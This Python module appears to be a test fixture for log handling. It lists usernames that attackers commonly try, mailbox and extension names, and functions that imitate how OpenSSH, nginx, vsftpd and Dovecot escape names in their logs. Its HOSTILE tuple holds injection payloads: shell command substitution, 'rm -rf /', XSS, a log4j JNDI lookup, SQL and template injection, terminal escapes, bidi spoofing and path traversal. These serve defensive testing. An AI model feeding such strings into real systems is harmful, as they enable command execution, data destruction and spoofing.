"""User names: whom attackers try, who really works here, and what is typed to hurt whoever reads the log."""

from __future__ import annotations

import string

COMMON = (
    *("root", "root", "root", "admin", "admin", "test", "user", "ubuntu", "oracle", "postgres", "git", "pi", "ftpuser"),
    *("deploy", "jenkins", "hadoop", "minecraft", "guest", "support", "www-data", "mysql", "nagios", "backup", "steam"),
    *("sol", "solana", "validator", "ethereum", "debian", "centos", "ec2-user", "zabbix", "ansible", "es", "tomcat"),
)
MAILBOXES = (
    "info",
    "sales",
    "office",
    "admin",
    "postmaster",
    "contact",
    "hr",
    "scan",
    "noreply",
    "support",
    "newsletter",
)
EXTENSIONS = ("100", "101", "200", "1000", "1001", "2000", "5060", "8001", "9999", "00441904911")
STAFF = ("anna", "ben", "carla", "david", "elif", "frank", "grace", "henrik")

# Seen in the wild in one form or another: shell, markup, log4j, SQL, templates, terminal escapes, bidi controls.
HOSTILE = (
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "${jndi:ldap://198.51.100.7/a}",
    "admin'--",
    "' OR 1=1 --",
    "{{7*7}}",
    "%s%s%s%n",
    "=cmd|' /C calc'!A0",
    "\x1b[2J\x1b[31mroot\x1b[0m",
    "\x1b]0;owned\x07",
    "\u202enimda\u202c",
    "user\u2066\u2069\u200b",
    "../../etc/passwd",
    "\u540d\u524d",
    "\N{PILE OF POO}",
)

_PLAIN = frozenset(string.ascii_letters + string.digits + ".-_@")


def octal_escaped(text: str) -> str:
    """As OpenSSH logs a name: everything that is not printable ASCII as octal bytes."""
    return "".join(chr(byte) if 0x20 <= byte < 0x7F else f"\\{byte:03o}" for byte in text.encode())


def hex_escaped(text: str) -> str:
    """As nginx (in its access log) and Apache log a text: quotes, backslashes and the unprintable as hex bytes."""
    return "".join(
        chr(byte) if 0x20 <= byte < 0x7F and byte not in b'"\\' else f"\\x{byte:02X}" for byte in text.encode()
    )


def question_marked(text: str) -> str:
    """As vsftpd logs a name: what is not printable ASCII becomes a question mark."""
    return "".join(character if " " <= character <= "~" else "?" for character in text)


def mailbox_name(text: str) -> str:
    """As Dovecot logs a name: one with characters that no mailbox may have is not repeated at all."""
    return text if _PLAIN.issuperset(text) else ""
